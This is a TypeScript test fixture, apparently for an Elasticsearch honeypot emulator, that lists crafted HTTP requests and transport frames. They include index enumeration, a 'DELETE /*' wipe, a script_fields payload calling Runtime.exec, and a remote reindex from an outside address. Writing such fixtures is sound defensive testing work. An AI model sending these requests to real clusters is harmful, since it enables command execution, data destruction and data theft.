import { encodeFrame, STATUS } from '../../../src/emulators/elasticsearch/transport-codec.ts'
import { httpRequest } from '../http-request.ts'

const json = (method: string, target: string, body: unknown): Buffer =>
  httpRequest(method, target, JSON.stringify(body), { 'Content-Type': 'application/json' })

/** A look around, a theft, a ransom note, scripts, and the odd corners of the query DSL. */
export default [
  httpRequest('GET', '/'),
  httpRequest('GET', '/_cat/indices?v&h=index,docs.count&s=docs.count:desc'),
  httpRequest('GET', '/_all/_search?q=name:anna+AND+NOT+*x*&size=5&sort=id:desc&_source=a.*,b'),
  json('POST', '/*-customers/_search?scroll=1m', {
    from: 1,
    size: 3,
    query: {
      bool: {
        must: [{ match: { first_name: 'anna' } }],
        filter: { range: { id: { gte: 10, lt: '20000' } } },
        should: [{ wildcard: { email: '*@*' } }],
      },
    },
    sort: [{ id: { order: 'desc' } }],
    aggs: {
      a: {
        terms: { field: 'address.country.keyword' },
        aggs: { d: { date_histogram: { field: 'created_at', interval: 'month' } }, s: { stats: { field: 'id' } } },
      },
    },
    _source: { includes: ['a*'], excludes: ['b'] },
  }),
  Buffer.concat([
    json('PUT', '/t/_doc/1', { a: [1, { b: 'c' }] }),
    json('POST', '/t/_update/1', { doc: { x: 1 } }),
    httpRequest('DELETE', '/t/_doc/1'),
    httpRequest('DELETE', '/*'),
  ]),
  httpRequest('POST', '/_bulk', '{"index":{"_index":"b","_id":"1"}}\n{"x":1}\n{"delete":{"_index":"b","_id":"9"}}\n', {
    'Content-Type': 'application/x-ndjson',
  }),
  httpRequest('POST', '/_msearch', '{"index":"*"}\n{"query":{"match_all":{}}}\n', { 'Content-Type': 'application/x-ndjson' }),
  json('POST', '/_search', {
    script_fields: { x: { script: 'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("id").getText()' } },
  }),
  json('POST', '/_aliases', { actions: [{ add: { index: '*', alias: 'all' } }] }),
  json('PUT', '/n', {
    settings: { number_of_shards: 3, index: { number_of_replicas: 0 } },
    mappings: { properties: { a: { type: 'keyword' } } },
  }),
  json('POST', '/_reindex', { source: { remote: { host: 'http://203.0.113.9:9200' }, index: 'x' }, dest: { index: 'y' } }),
  json('POST', '/_sql', { query: 'SELECT * FROM app-config' }),
]

const frame = (status: number, payload: string): Buffer =>
  encodeFrame({ requestId: 1n, status, version: 7_170_999, payload: Buffer.from(payload, 'latin1') })

/** Nodes among each other. */
const transport = [
  frame(STATUS.handshake, '\0\0\0\x02\0\0\0\x16internal:tcp/handshake\0\x04\xb7\xd9\xd0\x03'),
  frame(0, '\0\0\0\x02\0\0\0\x1ecluster:monitor/nodes/info\0'),
  Buffer.from('4553ffffffff', 'hex'),
  httpRequest('GET', '/'),
]

export const byPort = { 'tcp 9300': transport }
